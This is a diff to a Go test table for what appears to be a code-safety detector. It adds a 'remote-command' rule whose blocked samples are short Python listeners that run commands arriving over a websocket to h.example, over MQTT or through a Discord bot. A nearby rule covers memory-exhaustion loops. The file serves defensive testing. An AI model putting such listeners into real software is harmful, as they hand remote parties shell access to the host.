@@ -44,6 +44,19 @@ var loadSamples = []sample{
 		},
 	},
 	{
+		rule: "remote-command", lang: "python",
+		block: []string{
+			"import websocket, subprocess\ndef on_message(ws, m):\n    ws.send(subprocess.run(m, shell=True, capture_output=True).stdout)\nwebsocket.WebSocketApp('ws://h.example', on_message=on_message).run_forever()",
+			"import paho.mqtt.client as mqtt, os\ndef on_message(c, u, m):\n    os.system(m.payload.decode())\nc = mqtt.Client()\nc.on_message = on_message\nc.loop_forever()",
+			"import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(msg):\n    subprocess.getoutput(msg.content[4:])\nclient.run('T')",
+		},
+		pass: []string{
+			"import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(msg):\n    if msg.content == '!up':\n        subprocess.getoutput('uptime')\nclient.run('T')",
+			"import websocket, json\ndef on_message(ws, m):\n    print(json.loads(m))\nwebsocket.WebSocketApp('wss://h.example', on_message=on_message).run_forever()",
+			"import subprocess\ndef on_message(line):\n    subprocess.run(line, shell=True)\n",
+		},
+	},
+	{
 		rule: "fill-resource", lang: "python",
 		block: []string{"s = 'a'\nwhile True:\n    s = s + s\n", "s = 'a'\nwhile 1:\n    s += s\n", "b = [0]\nwhile True:\n    b = b + b\n"},
 		pass:  []string{"s = 'a'\nfor _ in range(4):\n    s = s + s\n", "s = ''\nwhile True:\n    s = s + next(it)\n", "n = 1\nwhile n < 10:\n    n = n + n\n"},
